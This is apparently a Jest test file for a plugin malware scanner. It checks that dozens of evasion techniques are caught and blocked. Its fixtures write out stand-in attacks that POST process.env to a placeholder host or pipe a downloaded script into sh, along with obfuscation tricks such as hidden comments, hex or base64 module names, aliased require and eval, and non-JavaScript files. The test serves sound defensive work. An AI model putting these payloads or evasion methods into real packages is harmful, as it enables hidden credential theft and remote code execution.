import { describe, expect, it } from '@jest/globals';
import { pluginFiles, type PluginSketch } from '@ragnos-vault/testing';
import { DEFAULT_POLICY, scan } from '../index.ts';

const SEND = `fetch('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`;
const RUN = `require('child_process').exec('curl https://a.example.invalid/i.sh | sh');`;
const manifest = (fields: object): string => JSON.stringify({ name: 'plugin', version: '1.0.0', ...fields });
const utf16 = (text: string): Uint8Array => Buffer.from(`\ufeff${text}`, 'utf16le');

/** Ways around a scanner that reads text, or extensions, or one spelling. */
const EVASIONS: readonly (readonly [what: string, rule: string, plugin: PluginSketch])[] = [
  // Where the code is.
  ['a comment that opens in a string', 'EXF-001', `const a = '/*'; ${SEND} const b = '*/';`],
  ['a comment that opens in a regular expression', 'EXF-001', `const a = /[/*]/; ${SEND} const b = '*/';`],
  ['a comment that opens in a template', 'EXF-001', `const a = \`/* \${1}\`; ${SEND} /* */`],
  ['a line far to the right', 'EXF-001', `module.exports = 1;${' '.repeat(5000)}${SEND}`],
  [
    'data that a script runs',
    'EXF-001',
    { 'package.json': manifest({ scripts: { start: 'node payload.json' } }), 'payload.json': SEND },
  ],
  [
    'data that a script runs with a flag',
    'EXF-001',
    {
      'package.json': manifest({ scripts: { start: 'node --require=./lib/data.txt .' } }),
      'lib/data.txt': SEND,
    },
  ],
  [
    'a picture that `main` names',
    'CNT-002',
    { 'package.json': manifest({ main: 'logo.png' }), 'logo.png': SEND },
  ],
  [
    'a picture that `main` names without its extension',
    'EXF-001',
    { 'package.json': manifest({ main: './lib' }), 'lib/index.js': SEND },
  ],
  [
    'a file that only a condition of `exports` names',
    'EXF-001',
    { 'package.json': manifest({ exports: { '.': [{ node: { import: './a.css' } }] } }), 'a.css': SEND },
  ],
  [
    'a shell command that a manual script names too',
    'EXE-001',
    {
      'package.json': manifest({ bin: { tool: 'cli.sh' }, scripts: { lint: 'shellcheck cli.sh' } }),
      'cli.sh': '#!/bin/sh\ncurl https://a.example.invalid/i.sh | sh\n',
    },
  ],
  [
    'code as plain character codes',
    'EXE-002',
    'eval(String.fromCharCode(114, 101, 113, 117, 105, 114, 101, 40, 34, 99, 34, 41));',
  ],
  ['a script without extension', 'EXE-001', { tool: `#!/usr/bin/env node\n${RUN}` }],
  ['a script without extension nor shebang', 'EXE-001', { 'index.js': `require('./tool');`, tool: RUN }],
  ['a folder that scanners leave out', 'EXF-001', { 'node_modules/.cache/dist/vendor/a.min.js': SEND }],
  ['a test', 'EXF-001', { 'test/fixtures/a.spec.js': SEND }],
  ['another encoding', 'EXF-001', { 'index.js': utf16(SEND) }],
  ['a comment that only a script has', 'EXF-001', { 'index.js': `<!-- a\n${SEND}\n--> b` }],
  [
    'code that a script holds',
    'EXF-001',
    { 'package.json': manifest({ scripts: { start: `node -e "${SEND.replaceAll('"', '\\"')}"` } }) },
  ],
  ['code that code holds', 'EXE-001', `eval("eval(\\"${RUN.replaceAll("'", '`')}\\")");`],
  [
    'code that a child holds',
    'EXE-001',
    `require('child_process').spawn(process.execPath, ['-e', "${RUN}"]);`,
  ],
  [
    'a shell in a shell in a shell',
    'EXE-001',
    `require('child_process').exec(\`sh -c "bash -c 'curl https://a.example.invalid | sh'"\`);`,
  ],
  // What it is called.
  ['a module in two pieces', 'OBF-003', `const m = require('child_' + 'process'); m.exec('id');`],
  [
    'a module in two pieces, with its command',
    'EXE-001',
    RUN.replace(`'child_process'`, `'child_' + 'process'`),
  ],
  [
    'a module added up',
    'EXE-001',
    `let m = 'child_'; m += 'process'; ${RUN.replace(`'child_process'`, 'm')}`,
  ],
  ['a module in reverse', 'OBF-003', `require('ssecorp_dlihc'.split('').reverse().join('')).exec('id');`],
  [
    'a module in hexadecimal',
    'OBF-003',
    `require(Buffer.from('6368696c645f70726f63657373', 'hex').toString()).exec('id');`,
  ],
  ['a module in base64', 'OBF-003', `require(atob('Y2hpbGRfcHJvY2Vzcw==')).exec('id');`],
  ['a module in escapes', 'EXE-001', RUN.replace('child_process', '\\x63hild_\\u0070rocess')],
  ['a module with its scheme', 'EXE-001', RUN.replace('child_process', 'node:child_process')],
  ['a member in brackets', 'EXE-001', RUN.replace('.exec', `['exec']`)],
  ['a member in two pieces', 'EXE-001', RUN.replace('.exec', `['ex' + 'ec']`)],
  ['a member in a name', 'EXF-001', SEND.replace('process.env', `process[['e', 'n', 'v'].join('')]`)],
  ['an alias of require', 'EXE-001', `const r = require; ${RUN.replace('require', 'r')}`],
  ['a require of another name', 'EXE-001', RUN.replace('require', 'process.mainModule.require')],
  [
    'a require that was made',
    'EXE-001',
    `import { createRequire as c } from 'module'; ${RUN.replace('require', 'c(import.meta.url)')}`,
  ],
  ['a module without require', 'EXE-001', RUN.replace('require', 'process.getBuiltinModule')],
  [
    'a module that was imported',
    'EXE-001',
    `const { exec } = await import('child_process'); exec('curl https://a.example.invalid | sh');`,
  ],
  ['an alias of process', 'EXF-001', `const p = process; ${SEND.replace('process', 'p')}`],
  [
    'an alias of an alias',
    'EXF-001',
    `const { env: a } = globalThis['process']; const b = a; ${SEND.replace('process.env', 'b')}`,
  ],
  ['an imported process', 'EXF-001', `import p from 'node:process'; ${SEND.replace('process', 'p')}`],
  [
    'an imported environment',
    'EXF-001',
    `import { env } from 'process'; ${SEND.replace('process.env', 'env')}`,
  ],
  ['an alias of fetch', 'EXF-001', `const { fetch: f } = globalThis; ${SEND.replace('fetch', 'f')}`],
  ['a comma before eval', 'EXE-002', `(0, eval)(atob('MQ=='));`],
  ['Function without its name', 'EXE-002', `(() => {}).constructor(atob('MQ=='))();`],
  ['Function from a text', 'EXE-002', `''.constructor.constructor(atob('MQ=='))();`],
  ['call', 'EXE-001', RUN.replace('.exec(', '.exec.call(null, ')],
  ['apply', 'EXE-001', RUN.replace('.exec(', '.exec.apply(null, [').replace(');', ']);')],
  [
    'Reflect',
    'EXE-001',
    `Reflect.apply(require('child_process').exec, null, ['curl https://a.example.invalid | sh']);`,
  ],
  [
    'a property that was assigned',
    'EXE-001',
    `const o = {}; o.go = require('child_process').exec; o.go('curl https://a.example.invalid | sh');`,
  ],
  [
    'a promise of exec',
    'EXE-001',
    `const go = require('util').promisify(require('child_process').exec); go('curl https://a.example.invalid | sh');`,
  ],
  // How it flows.
  [
    'each variable on its own',
    'EXF-001',
    `const all = Object.keys(process.env).map((key) => key + '=' + process.env[key]); fetch('https://a.example.invalid/?' + all.join());`,
  ],
  [
    'a loop over the environment',
    'EXF-001',
    `let all = ''; for (const key in process.env) all += process.env[key]; fetch('https://a.example.invalid/?' + all);`,
  ],
  [
    'base64 twice',
    'EXF-001',
    SEND.replace('JSON.stringify(process.env)', 'btoa(btoa(JSON.stringify(process.env)))'),
  ],
  [
    'a callback',
    'EXF-001',
    `const hand = (done) => done(process.env); hand((all) => fetch('https://a.example.invalid/', { body: JSON.stringify(all) }));`,
  ],
  [
    'a promise',
    'EXF-001',
    `Promise.resolve(process.env).then((all) => fetch('https://a.example.invalid/', { body: JSON.stringify(all) }));`,
  ],
];

describe('scan, under the default policy', () => {
  it.each(EVASIONS)('is not evaded by %s', (...[, rule, plugin]) => {
    const input = {
      files: pluginFiles(plugin),
      name: 'plugin',
      version: '1.0.0',
      sha256: '0'.repeat(64),
      now: new Date(0),
    };
    const { verdict, findings } = scan(input, DEFAULT_POLICY);
    expect(findings.map((finding) => finding.rule)).toContain(rule);
    expect(verdict).toBe('block');
  });

  it('finds more in a manifest with two `scripts` than either reader would run', () => {
    const text = '{"scripts":{"preinstall":"curl https://a.example.invalid | sh"},"scripts":{"test":"jest"}}';
    const input = {
      files: pluginFiles({ 'package.json': text }),
      name: 'plugin',
      version: '1.0.0',
      sha256: '0'.repeat(64),
      now: new Date(0),
    };
    const rules = scan(input, DEFAULT_POLICY).findings.map(({ rule }) => rule);
    expect(rules).toEqual(expect.arrayContaining(['EXE-001', 'MAN-001', 'MAN-002', 'MAN-005']));
  });
});
